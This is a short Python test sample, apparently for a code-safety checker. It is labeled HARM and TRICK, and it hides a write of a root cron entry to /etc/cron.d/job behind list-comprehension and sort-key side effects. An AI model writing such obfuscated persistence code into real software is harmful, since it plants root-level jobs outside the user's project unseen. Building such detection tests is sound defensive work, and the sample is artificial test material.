# HARM: write /etc/cron.d/job (outside cwd) | TRICK: known nested list is mutated through a list comprehension side effect (append in comprehension) before sorted key lambda writes p[-1]
xs = [["./out/a.txt"]]
[q.append("/etc/cron.d/job") for q in xs]
sorted(xs, key=lambda p: open(p[-1], "w").write("* * * * * root id\n"))
